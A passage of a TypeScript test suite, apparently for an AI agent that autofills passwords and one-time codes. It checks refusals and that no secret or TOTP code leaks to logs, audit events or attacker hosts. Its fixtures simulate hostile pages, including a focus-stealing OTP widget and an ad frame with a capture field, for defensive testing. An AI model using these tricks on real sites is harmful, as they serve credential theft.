          const boxes = [...document.querySelectorAll('.box')];
          document.getElementById('form').addEventListener('submit', async (event) => {
            event.preventDefault();
            const response = await fetch('/signin/otp-ad', { method: 'POST', headers: { 'content-type': 'application/json' },
              body: JSON.stringify({ username: 'otp-user', code: boxes.map((b) => b.value).join('') }) });
            document.getElementById('result').textContent = await response.text();
          });
        </script>`,
      );
      await frame('#ad').locator('#grab').waitFor();
      expect(await fill($('#box0'), 'totp')).toEqual(filled('totp'));
      const code = (await Promise.all([0, 1, 2, 3, 4, 5].map((i) => $(`#box${i}`).inputValue()))).join('');
      expect(code).toMatch(/^\d{6}$/);
      codes.push(code);
      await settle();
      expect(await frame('#ad').locator('#grab').inputValue()).toBe('');
      expect(beaconsSince(mark)).toEqual([]);
      await agent.click($('#submit'));
      await expect.poll(() => $('#result').textContent()).toBe('Signed in as otp-user');
    });

    it('an OTP widget that moves focus out of its boxes mid-code: not_landed, and the other input gets no digit', async () => {
      await show(
        OTP,
        '/r10/otp-escape',
        `<h1>Enter the code</h1><form id="form" method="post" action="/signin/otp">
          <div id="boxes" style="display:flex; gap:8px">
            ${[0, 1, 2, 3, 4, 5].map((i) => `<input class="box" id="box${i}" maxlength="1" inputmode="numeric" style="width:36px" ${i === 0 ? 'autocomplete="one-time-code"' : ''}>`).join('')}
          </div>
          <input id="other" name="promo" placeholder="Promo code">
        </form>
        <script>
          const boxes = [...document.querySelectorAll('.box')];
          boxes.forEach((box, i) => box.addEventListener('input', () => {
            if (!box.value) return;
            // After the third digit the widget sends focus somewhere else.
            (i === 2 ? document.getElementById('other') : boxes[i + 1])?.focus();
          }));
        </script>`,
      );
      const answer = await fill($('#box0'), 'totp');
      expect(answer).toEqual(refused('not_landed', 'totp'));
      expect(await $('#other').inputValue()).toBe('');
      const typed = await page.$$eval('.box', (boxes) => boxes.map((b) => (b as unknown as { value: string }).value).join(''));
      expect(typed.length).toBeLessThan(6);
      // For the canary: the codes around now (only whole codes: a few digits would match anything).
      const totp = parseTotp(env.accounts.otp?.totp ?? '');
      for (const offset of [-30_000, 0, 30_000]) codes.push(totp.generate({ timestamp: Date.now() + offset }));
    });
  });

  describe('rule 11: the answer says whether the value is really there', () => {
    it('not_landed when the page clears or rewrites the value, or a number input rejects it', async () => {
      await show(
        LOGIN,
        '/r11/rewrite',
        `<form method="post">
          <input id="username" name="username" oninput="this.value = this.value.toUpperCase()">
          <input id="password" name="password" type="password" oninput="this.value = ''">
          <input id="number" type="number"></form>`,
      );
      expect(await fill($('#username'), 'username')).toEqual(refused('not_landed', 'username'));
      expect(await fill($('#password'), 'password')).toEqual(refused('not_landed', 'password'));
      expect(await fill($('#number'), 'username')).toEqual(refused('not_landed', 'username'));
      expect(await $('#number').inputValue()).toBe('');
    });
  });

  describe('insecure_page: a top-level page with an opaque origin', () => {
    it('refuses a page served with a CSP sandbox, although its URL is on the site', async () => {
      await show(LOGIN, '/sandboxed-top', loginForm(), { headers: { 'content-security-policy': 'sandbox allow-forms' } });
      expect(await fill($('#password'), 'password')).toEqual(refused('insecure_page', 'password'));
      expect(await $('#password').inputValue()).toBe('');
      expect((await agent.listSecrets()).body).toMatchObject({ fields: [], reason: 'insecure_page' });
    });
  });

  it('never lets a secret reach an answer, a log line, the audit trail or an attacker’s host', async () => {
    const secrets = env.secrets();
    expect(secrets.length).toBeGreaterThan(10);
    const events = await env.t.request('GET', `/api/v2/vaults/${env.vaultId}/events?limit=1000`, { key: env.key });
    expect(events.status).toBe(200);
    expect(events.body.events.filter((e: { action: string }) => e.action === 'fill').length).toBeGreaterThan(30);
    const collected = server.collected().map((r) => `${r.url}\n${r.body}`);
    expect(collected.length).toBeGreaterThan(0); // the attackers' pages were fetched, so the check has something to look at
    const haystacks: [string, string][] = [
      ['agent answers', agents.flatMap((a) => a.seen).join('\n')],
      ['log lines', env.t.logs.join('\n')],
      ['audit events', events.text],
      ['attacker hosts', collected.join('\n')],
      ['attacker hosts (decoded)', collected.map((text) => safeDecode(text)).join('\n')],
    ];
    for (const [where, text] of haystacks) {
      for (const secret of secrets) expect(text.includes(secret), `a secret in the ${where}`).toBe(false);
      for (const code of codes) expect(new RegExp(`(?<!\\d)${code}(?!\\d)`).test(text), `a TOTP code in the ${where}`).toBe(false);
    }
    for (const event of events.body.events) {
      if (event.origin !== null) expect(event.origin).toMatch(/^https?:\/\/[^/]+$/);
    }
  });
});

function safeDecode(text: string): string {
  try {
    return decodeURIComponent(text.replace(/\+/g, ' '));
  } catch {
    return text;
  }
}
